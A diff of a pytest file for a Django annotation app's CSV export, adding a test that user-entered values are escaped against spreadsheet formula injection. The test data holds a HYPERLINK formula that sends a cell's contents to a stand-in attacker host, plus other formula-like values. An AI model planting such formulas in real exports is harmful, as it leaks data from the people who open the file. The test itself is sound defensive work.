@@ -9,8 +9,10 @@ import pytest
 from django.core.management import CommandError, call_command
 from django.urls import reverse
 
-from annotation.exchange.table import COLUMNS, annotation_lines
+from annotation.exchange.records import AnnotationRecord
+from annotation.exchange.registry import FORMATS
 from annotation.models import Annotation, Campaign, Image
+from annotation.selectors.export import annotation_records
 
 
 @pytest.fixture
@@ -36,13 +38,17 @@ def answers(campaign: Campaign, people: dict[str, Any], make_image: Callable[...
     return [first, second, skip]
 
 
+def exported(campaign: Campaign) -> str:
+    return b"".join(FORMATS["annotations-csv"].write(annotation_records(campaign))).decode()
+
+
 def rows(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
 def test_every_row_is_there_with_what_it_replaced(campaign: Campaign, answers: list[Annotation]) -> None:
-    first, second, skip = rows("".join(annotation_lines(campaign)))
-    assert list(first) == list(COLUMNS)
+    first, second, skip = rows(exported(campaign))
+    assert tuple(first) == AnnotationRecord._fields
     assert first["image"] == 'with "quotes", and commas.jpg'
     assert (first["score"], first["watch"], first["milliseconds"], first["supersedes"]) == ("3", "no", "900", "")
     assert (second["supersedes"], second["saw_prediction"], second["split"]) == (first["annotation"], "1", "holdout")
@@ -52,12 +58,29 @@ def test_every_row_is_there_with_what_it_replaced(campaign: Campaign, answers: l
 
 def test_other_campaigns_are_left_out(answers: list[Annotation]) -> None:
     other = Campaign.objects.create(slug="other", name="Other")
-    assert rows("".join(annotation_lines(other))) == []
+    assert rows(exported(other)) == []
 
 
 def test_rows_come_in_one_query(campaign: Campaign, answers: list[Annotation], django_assert_num_queries: Any) -> None:
     with django_assert_num_queries(1):
-        list(annotation_lines(campaign))
+        exported(campaign)
+
+
+def test_nothing_that_people_wrote_is_a_formula_for_a_spreadsheet(
+    campaign: Campaign, people: dict[str, Any], make_image: Callable[..., Image]
+) -> None:
+    people["alice"].username = "@alice"
+    people["alice"].save()
+    Annotation.objects.create(
+        client_id=uuid4(),
+        annotator=people["alice"],
+        campaign=campaign,
+        image=make_image(1, name='=HYPERLINK("http://evil.example/?"&A2)'),
+        skip_reason="+1+1",
+    )
+    (row,) = rows(exported(campaign))
+    assert row["image"] == '\'=HYPERLINK("http://evil.example/?"&A2)'
+    assert (row["annotator"], row["skip_reason"]) == ("'@alice", "'+1+1")
 
 
 @pytest.mark.parametrize(
